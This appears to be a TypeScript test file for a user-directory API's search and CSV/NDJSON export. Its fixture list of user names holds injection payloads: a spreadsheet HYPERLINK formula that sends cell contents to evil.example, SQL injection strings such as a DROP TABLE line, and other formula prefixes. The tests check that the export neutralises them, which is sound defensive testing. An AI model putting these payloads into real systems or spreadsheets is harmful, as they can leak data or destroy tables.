import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { call } from "../support.ts";
import { adminOf, disconnect, read } from "./connecting.ts";
import { base, connected, get, type Rows, SIZE } from "./copied.ts";
import { SEEDED_UNTIL, seededId } from "./seed.ts";

/** Names as somebody might choose them who wants to reach further than a list. */
const NAMES = [
  `=HYPERLINK("https://evil.example?"&A1,"click")`,
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  `a "quoted", name`,
  "two\r\nlines",
  "'; DROP TABLE users; --",
  `" OR ""="`,
  "100%_\\",
  "Ω≈ç 🙂",
  "\u{FF1D}1+1",
];

test("names of any kind are found, sorted and shown as they are", async () => {
  await connected("namer", 504, (sql) => {
    for (const [index, name] of NAMES.entries()) sql.run("UPDATE users SET name = ? WHERE n = ?", name, index + 1);
  });
  for (const [index, name] of NAMES.entries()) {
    for (const query of [`name=${encodeURIComponent(name)}`, `q=${encodeURIComponent(name)}`]) {
      const found = (await get("namer", `/users?${query}`))["users"] as Rows;
      expect(found.map(({ id }) => id)).toEqual([seededId(index + 1)]);
      expect(found[0]?.["name"]).toBe(name);
    }
  }
});

test("CSV has every row, is read back as it was written, and no cell is a formula", async () => {
  await connected("exporter", 505, (sql) => {
    for (const [index, name] of NAMES.entries()) sql.run("UPDATE users SET name = ? WHERE n = ?", name, index + 1);
  });
  const answer = await call(
    `${base}/users?format=csv&fields=id,name,enabled,licences,manager,created_at`,
    adminOf("exporter"),
  );
  expect(answer.headers.get("Content-Type")).toBe("text/csv; charset=utf-8; header=present");
  expect(answer.headers.get("Content-Disposition")).toBe('attachment; filename="users.csv"');
  const text = await answer.text();
  expect(text.endsWith("\r\n")).toBe(true);
  const rows: string[][] = parse(text, { record_delimiter: "\r\n" });
  expect(rows[0]).toEqual([
    "id",
    "name",
    "enabled",
    "licences",
    "manager.id",
    "manager.name",
    "manager.address",
    "created_at",
  ]);
  expect(rows).toHaveLength(SIZE.users + 1);
  expect(new Set(rows.map(([id]) => id)).size).toBe(SIZE.users + 1);
  for (const [index, name] of NAMES.entries()) {
    const row = rows.find(([id]) => id === seededId(index + 1));
    expect(row?.[1]).toBe(/^[=+\-@\t\r\u{FF1D}]/u.test(name) ? `'${name}` : name);
  }
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  expect(rows.find(([id]) => id === seededId(22))).toEqual(
    expect.arrayContaining(["true", "ENTERPRISEPACK; EMS", seededId(2)]),
  );
});

test("NDJSON has every row, as the list shows it", async () => {
  await connected("liner", 506);
  const answer = await call(`${base}/users?format=ndjson&department=it&sort=-upn`, adminOf("liner"));
  expect(answer.headers.get("Content-Type")).toBe("application/x-ndjson");
  const rows = (await answer.text())
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);
  const page = await get("liner", "/users?department=it&sort=-upn&limit=1000");
  expect(rows).toEqual(page["users"]);
  const empty = await call(`${base}/users?format=ndjson&department=nowhere`, adminOf("liner"));
  expect([empty.status, await empty.text()]).toEqual([200, ""]);
  const log = await call(`${base}/audit/sign-ins?format=ndjson`, adminOf("liner"));
  expect((await log.text()).trimEnd().split("\n")).toHaveLength(SIZE.signIns);
});

test("an export of few rows of a long log goes on over pages that hold none", async () => {
  await connected("seeker", 509, (sql) => {
    const old = SEEDED_UNTIL - 10 * 86_400_000;
    sql.run(
      `WITH RECURSIVE k(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM k WHERE i < 110000)
       INSERT INTO sign_ins (id, at, app) SELECT 'more' || i, ? + i, iif(i = 1, 'Rare', 'Usual') FROM k`,
      old,
    );
  });
  const answer = await call(`${base}/audit/sign-ins?format=ndjson&app=rare`, adminOf("seeker"));
  expect(JSON.parse(await answer.text())).toMatchObject({ id: "more1", app: "Rare" });
});

test("an export stands in the trail of whoever asked for it", async () => {
  await connected("watched", 507);
  await (await call(`${base}/devices?format=csv`, adminOf("watched"))).text();
  const trail = await read(await call("/api/v1/oauth/audit?action=tenant_export", adminOf("watched")));
  expect(trail["records"]).toMatchObject([
    { outcome: "ok", detail: { org: "watched", list: "devices", format: "csv" } },
  ]);
});

test("an export that cannot go on is broken off, and one that cannot begin is a problem", async () => {
  await connected("broken", 508);
  const answer = await call(`${base}/users?format=csv`, adminOf("broken"));
  const reader = answer.body?.getReader();
  await reader?.read();
  await disconnect("broken");
  const rest = async () => {
    for (;;) if ((await reader?.read())?.done !== false) return "ended";
  };
  await expect(rest()).rejects.toThrow("No tenant is connected");
  const late = await call(`${base}/users?format=csv`, adminOf("broken"));
  expect(await read(late)).toMatchObject({ status: 404, code: "not_connected" });
});
